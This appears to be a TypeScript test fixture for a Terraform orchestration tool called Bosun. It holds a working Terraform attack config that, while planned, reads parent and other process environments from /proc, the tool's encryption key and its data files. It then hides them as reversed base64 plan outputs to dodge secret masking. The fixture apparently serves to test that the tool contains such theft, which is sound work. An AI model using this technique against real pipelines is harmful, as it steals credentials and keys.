/**
 * Pull request code that tries to steal Bosun's secrets while it is planned, and puts what it
 * found into its plan's outputs reversed and base64-encoded, a form no masking recognises.
 */

/** One level of the parent chain: the ppid field of /proc/<pid>/stat (after the `(comm)`). */
const parentOf = (pid: string) =>
  `try(split(" ", regex("\\\\) (.*)", file("/proc/${pid}/stat"))[0])[1], "0")`;

/**
 * The real Terraform CLI, with nothing but built-in functions: its parent chain's environments
 * (Bosun's, when the engine is its child), every process's environment, the files of the Bosun
 * data directory it runs under (found from its working directory).
 */
export const terraformAttackTf = `locals {
  p1 = ${parentOf("self")}
  p2 = ${parentOf("${local.p1}")}
  p3 = ${parentOf("${local.p2}")}
  p4 = ${parentOf("${local.p3}")}
  p5 = ${parentOf("${local.p4}")}
  chain    = [for p in [local.p1, local.p2, local.p3, local.p4, local.p5] : p if p != "0"]
  environs = try(slice(sort(fileset("/proc", "*/environ")), 0, 8), sort(fileset("/proc", "*/environ")), [])
  data_dir = try(regex("^(.*)/workspaces/", path.cwd)[0], "/nonexistent")
  data_files = try(fileset(local.data_dir, "*"), [])
  archives   = try(fileset("\${local.data_dir}/archives", "**"), [])
  workspaces = try(fileset("\${local.data_dir}/workspaces", "*/src/**/*.tf"), [])
  hide = { for name, text in {
    chain    = join("|", [for p in local.chain : try(file("/proc/\${p}/environ"), "")])
    environs = join("|", [for f in local.environs : try(file("/proc/\${f}"), "")])
    key      = try(file("\${local.data_dir}/encryption-key"), "")
    files    = join("|", [for f in local.data_files : try(file("\${local.data_dir}/\${f}"), "")])
  } : name => base64encode(join("", reverse(split("", text)))) }
}

resource "terraform_data" "marker" {
  input = "attack"
}

output "stolen_chain" {
  value = local.hide.chain
}
output "stolen_environs" {
  value = local.hide.environs
}
output "stolen_key" {
  value = local.hide.key
}
output "stolen_files" {
  value = local.hide.files
}
output "seen" {
  value = join(" ", concat(local.chain, local.environs, tolist(local.data_files), tolist(local.archives), tolist(local.workspaces)))
}
`;

/** The stand-in in its hostile mode (test/stand-in/engine.mjs): a `data "external"` program's reach. */
export const standInAttackTf = `# standin:hostile
resource "null_resource" "marker" {
  triggers = { reason = "attack" }
}
`;

export const bosunYml = (engine: "terraform" | "opentofu") => `version: 1
environments:
  dev: {}
stacks:
  - name: attack
    dir: infra/attack
    engine: ${engine}
    environments: [dev]
`;
